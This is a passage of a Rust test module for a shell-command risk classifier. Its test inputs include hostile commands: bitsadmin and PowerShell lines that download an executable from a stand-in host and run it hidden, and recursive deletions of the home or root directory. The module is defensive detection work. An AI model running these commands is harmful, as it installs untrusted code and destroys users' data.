            "bitsadmin /transfer j https://c.example/x.exe %TEMP%\\x.exe & start /b %TEMP%\\x.exe",
        );
        assert!(k.iter().any(|(k, _)| *k == Kind::DownloadRun));
        let k = kinds(
            "powershell -c \"Invoke-WebRequest -Uri https://c.example/x.exe -OutFile x.exe; Start-Process x.exe -WindowStyle Hidden\"",
        );
        assert!(k.iter().any(|(k, _)| *k == Kind::DownloadRun), "{k:?}");
    }

    /// A download that is only unpacked, or a file that is run but never downloaded, is not
    /// a download-then-run.
    #[test]
    fn download_alone_or_run_alone() {
        let k = kinds("curl -L https://c.example/protoc.zip -o protoc.zip\nunzip protoc.zip\n");
        assert!(!k.iter().any(|(k, _)| *k == Kind::DownloadRun));
        let k = kinds("chmod +x ./bin/tool\n./bin/tool --version\n");
        assert!(!k.iter().any(|(k, _)| *k == Kind::DownloadRun));
    }

    #[test]
    fn publish_and_destruction() {
        let k = kinds("npm version patch && npm publish --access public");
        assert!(k.iter().any(|(k, _)| *k == Kind::NpmPublish));
        for bad in [
            "rm -rf ~/",
            "rm -rf --no-preserve-root /",
            "rd /s /q %USERPROFILE%",
            "Remove-Item -Recurse -Force $HOME",
        ] {
            assert!(
                kinds(bad).iter().any(|(k, _)| *k == Kind::DestructiveFs),
                "{bad}"
            );
        }
        for ok in [
            "rm -rf dist",
            "rm -rf ./node_modules/.cache",
            "del /q build\\*.obj",
            "rm -f ~/.cache/x.lock",
        ] {
            assert!(
                !kinds(ok).iter().any(|(k, _)| *k == Kind::DestructiveFs),
                "{ok}"
            );
        }
    }
}
